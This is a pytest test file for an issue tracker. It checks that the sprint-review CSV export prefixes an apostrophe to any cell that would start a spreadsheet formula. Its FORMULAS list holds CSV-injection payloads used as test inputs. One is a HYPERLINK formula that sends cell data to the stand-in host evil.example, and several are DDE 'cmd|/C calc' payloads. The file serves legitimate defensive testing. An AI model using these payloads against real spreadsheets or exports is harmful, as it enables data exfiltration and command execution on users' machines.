"""CSV exports never hand a spreadsheet a formula: every cell a user could have typed that
starts with = + - @ or a tab/CR gets a leading apostrophe."""

import csv
import io
from decimal import Decimal

import pytest

from tests import factories as f
from tracker import models as m
from tracker.services.backlog import item_create, item_update
from tracker.services.feedback import feedback_link
from tracker.services.sprints import sprint_add_items, sprint_create, sprint_start
from tracker.web.exports import review_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def review_with_formulas(db):
    workspace = f.WorkspaceFactory(slug="csv")
    project = f.ProjectFactory(workspace=workspace, key="CSV")
    owner = f.UserFactory()
    f.MembershipFactory(workspace=workspace, user=owner, role=m.WorkspaceRole.OWNER)
    sprint = sprint_create(project=project, actor=owner, name="Sprint 1", capacity=50)
    items = []
    for n, payload in enumerate(FORMULAS):
        item = item_create(project=project, actor=owner, title=payload, estimate=Decimal(1))
        customer = f.CustomerFactory(workspace=workspace, name=payload, email=f"c{n}@example.com")
        # One link quotes the payload; another has no quote, so the export falls back to the body.
        feedback = f.FeedbackFactory(workspace=workspace, customer=customer, body=payload, title=payload)
        feedback_link(feedback=feedback, item=item, actor=owner, quote=payload if n % 2 else "")
        items.append(item)
    sprint_add_items(sprint=sprint, items=items, actor=owner)
    sprint = sprint_start(sprint=sprint, actor=owner)
    for item in items:
        item.refresh_from_db()
        item_update(item=item, actor=owner, status=m.ItemStatus.DONE)
    return workspace, project, sprint, owner


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_no_cell_of_the_review_csv_starts_a_formula(review_with_formulas, client):
    workspace, project, sprint, owner = review_with_formulas
    client.force_login(owner)
    response = client.get(f"/{workspace.slug}/{project.key}/sprints/{sprint.number}/review/?format=csv")
    assert response.status_code == 200
    rows = cells(response.content.decode())
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), (row, cell)
    neutralised = {cell for row in rows[1:] for cell in row if cell.startswith("'")}
    for payload in FORMULAS:
        assert "'" + payload in neutralised  # kept readable, with the apostrophe in front


def test_the_exporter_neutralises_every_text_column():
    formula = "=1+1"
    review = {
        "problems_addressed": [
            {
                "key": formula,
                "title": formula,
                "estimate": formula,
                "feedback": [
                    {
                        "customer": formula,
                        "segment": formula,
                        "annual_value": formula,
                        "channel": formula,
                        "received_at": formula,
                        "quote": formula,
                    }
                ],
            }
        ]
    }
    (header, row) = cells(review_csv(review))
    assert all(cell == "'=1+1" for cell in row), row
